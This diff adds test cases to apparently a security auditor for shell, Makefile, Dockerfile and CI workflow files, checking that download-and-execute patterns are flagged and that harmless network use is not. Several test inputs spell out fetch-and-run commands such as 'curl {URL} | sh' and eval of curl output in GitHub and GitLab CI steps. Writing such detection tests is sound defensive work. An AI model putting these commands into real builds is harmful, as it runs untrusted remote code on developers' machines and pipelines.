@@ -165,12 +165,29 @@ def test_what_is_hidden_behind_the_shell_s_own_means_is_blocked(script: str) -> 
         ("Dockerfile", f"FROM x\nADD {URL} /i.sh\nRUN sh /i.sh\n"),
         ("Makefile", f"X := $(shell curl {URL} | sh)\n"),
         ("Makefile", f'all:\n\t@x=$$(curl {URL}); eval "$$x"\n'),
+        (
+            ".github/workflows/a.yml",
+            f'jobs:\n  a:\n    steps:\n      - run: |\n          x=$(curl {URL})\n          eval "$x"\n',
+        ),
+        (".gitlab-ci.yml", f"build:\n  script:\n    - make\n    - |\n      curl {URL} > a\n      sh a\n"),
         ("a.fish", f"curl {URL} | source\n"),
         ("a.fish", f"eval (curl {URL})\n"),
     ],
 )
 def test_recipes_and_other_shells_are_read_as_shell(name: str, script: str) -> None:
     assert audit(script, name).verdict is Verdict.FAIL
+
+
+def test_a_build_service_may_use_what_its_file_gives_and_the_network() -> None:
+    steps = '      - run: curl -H "Authorization: $API_TOKEN" https://example.invalid/ -o a.json\n      - run: make\n'
+    text = f"jobs:\n  a:\n    env:\n      API_TOKEN: x\n    steps:\n{steps}"
+    assert alarms(audit(text, ".github/workflows/a.yml")) == []
+
+
+def test_a_place_in_a_build_service_s_file_is_its_own_line() -> None:
+    text = f"jobs:\n  a:\n    steps:\n      - name: b\n        run: |\n          make\n          curl {URL} | sh\n"
+    place = audit(text, ".github/workflows/a.yml").findings[0].location
+    assert (place.line, place.column) == (7, 11)
 
 
 def test_a_placeholder_does_not_hide_the_next_line() -> None:
